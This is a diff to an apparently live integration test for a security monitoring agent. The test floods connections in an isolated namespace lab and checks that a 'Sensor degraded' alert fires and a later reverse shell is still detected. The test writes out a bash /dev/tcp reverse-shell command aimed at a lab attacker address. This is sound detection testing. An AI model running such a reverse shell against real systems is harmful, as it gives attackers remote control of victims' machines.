@@ -5,50 +5,43 @@ after the flood still alerts. Traffic stays inside the netns lab."""
 from __future__ import annotations
 
 import json
-import os
 import shutil
 import tempfile
 import time
 from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
-import pytest
-from conftest import skip_or_fail
-from test_resilience import Daemon, _load_workloads, read_lines
-
-pytestmark = pytest.mark.live
+from bench import workloads
+from tests.helpers.live import require_netlab, require_root, require_tools
+from tests.live.daemon import Daemon, read_lines
 
 NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
 FLOOD_S = 8.0
 CONNECT_CHUNK = 20_000
-SHELL_PORT = 43881
 SHELL_PAYLOAD = b"echo cw-$((6*7))\nexit\n"
 
 
 def test_unprivileged_flood_raises_sensor_degraded_and_a_shell_after_it_still_alerts(tmp_path: Path) -> None:
-    if os.geteuid() != 0:
-        skip_or_fail("this test runs the real agent, which needs root")
-    for tool in ("gcc", "ip", "setpriv"):
-        if shutil.which(tool) is None:
-            skip_or_fail(f"{tool} is not installed")
-    pytest.importorskip("pyroute2", reason="the netns lab needs pyroute2")
-    from netlab import NetLab
+    require_root("this test runs the real agent, which needs root")
+    require_tools("gcc", "setpriv")
+    require_netlab()
+    from tests.helpers.netlab import NetLab
 
-    module = _load_workloads()
     # A directory the unprivileged user can reach (pytest's tmp_path is root-only).
     shared = Path(tempfile.mkdtemp(prefix="cw-degraded-"))
     shared.chmod(0o755)
     lab = NetLab()
+    shell_port = lab.port()
     daemon: Daemon | None = None
     try:
-        storm = module.build(shared)["connect_storm"]
+        storm = workloads.build(shared)["connect_storm"]
         storm.chmod(0o755)
         home = tmp_path / "home"
         home.mkdir()
         # A one-page net ring: the flood must exceed what the agent reads, or there is nothing to report.
         daemon = Daemon(tmp_path, "[sensor]\nstats_interval_s = 1.0\nnet_ringbuf_pages = 1\n")
         daemon.wait_ready()
-        listener = lab.listen_tcp(lab.attacker_ns, SHELL_PORT, payload=SHELL_PAYLOAD, duration=FLOOD_S + 60)
+        listener = lab.listen_tcp(lab.attacker_ns, shell_port, payload=SHELL_PAYLOAD, duration=FLOOD_S + 60)
         argv = [*NOBODY, str(storm), str(CONNECT_CHUNK), lab.victim_ip4]
         assert lab.run(lab.victim_ns, ["id", "-u"], check=True).stdout.strip() == b"0"
 
@@ -57,14 +50,14 @@ def test_unprivileged_flood_raises_sensor_degraded_and_a_shell_after_it_still_al
             while time.monotonic() < until:
                 result = lab.run(lab.victim_ns, argv, timeout=120)
                 assert result.returncode == 0, result.stderr.decode(errors="replace")
-                ops += module.parse_report(result.stdout.decode()).ops
+                ops += workloads.parse_report(result.stdout.decode()).ops
             return ops
 
         until = time.monotonic() + FLOOD_S
         with ThreadPoolExecutor(max_workers=2) as pool:
             ops = sum(f.result() for f in [pool.submit(flood, until) for _ in range(2)])
         assert ops > 0
-        lab.run(lab.victim_ns, ["bash", "-c", f"bash -i >& /dev/tcp/{lab.attacker_ip4}/{SHELL_PORT} 0>&1; exit 0"],
+        lab.run(lab.victim_ns, ["bash", "-c", f"bash -i >& /dev/tcp/{lab.attacker_ip4}/{shell_port} 0>&1; exit 0"],
                 timeout=20, env={"HOME": str(home)})
         assert b"cw-42" in listener.wait(timeout=20), "the reverse shell itself did not run"
 
@@ -74,7 +67,7 @@ def test_unprivileged_flood_raises_sensor_degraded_and_a_shell_after_it_still_al
         def both() -> bool:
             got = alerts()
             return (any(a["rule"]["name"] == "Sensor degraded" for a in got)
-                    and any(a.get("destination", {}).get("port") == SHELL_PORT for a in got))
+                    and any(a.get("destination", {}).get("port") == shell_port for a in got))
 
         daemon.wait_until(both, "a Sensor degraded alert and the reverse shell's alert", 60.0)
         degraded = [a for a in alerts() if a["rule"]["name"] == "Sensor degraded"]
@@ -86,7 +79,7 @@ def test_unprivileged_flood_raises_sensor_degraded_and_a_shell_after_it_still_al
         assert sensor["window"]["start"] <= sensor["window"]["end"]
         # At most one alert per interval: the flood is reported, not turned into an alert storm.
         assert len(degraded) <= 2, [a["chainwatch"]["sensor"] for a in degraded]
-        shell = [a for a in alerts() if a.get("destination") == {"ip": lab.attacker_ip4, "port": SHELL_PORT}]
+        shell = [a for a in alerts() if a.get("destination") == {"ip": lab.attacker_ip4, "port": shell_port}]
         assert shell and shell[-1]["process"]["executable"].endswith("bash")
     finally:
         if daemon is not None:
